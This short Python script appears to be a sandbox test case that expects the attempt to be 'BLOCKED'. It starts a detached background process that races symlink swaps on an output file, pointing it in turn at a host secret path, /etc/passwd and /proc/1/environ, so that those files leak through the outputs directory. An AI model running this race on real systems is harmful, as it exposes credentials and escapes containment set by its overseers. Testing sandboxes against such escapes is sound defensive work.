import os
import subprocess
import sys

from evidence import host, say

say("BLOCKED", "leave", "bounded")
os.mkdir("outputs")
swap = f"""
import os
os.setsid()
while True:
    for target in ({host["secret_path"]!r}, "/etc/passwd", "/proc/1/environ"):
        try:
            os.symlink(target, "next")
            os.rename("next", "outputs/changing")
            open("next", "w").write("own")
            os.rename("next", "outputs/changing")
        except OSError:
            pass
"""
subprocess.Popen(
    [sys.executable, "-c", swap], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
)
while not os.path.lexists("outputs/changing"):
    pass
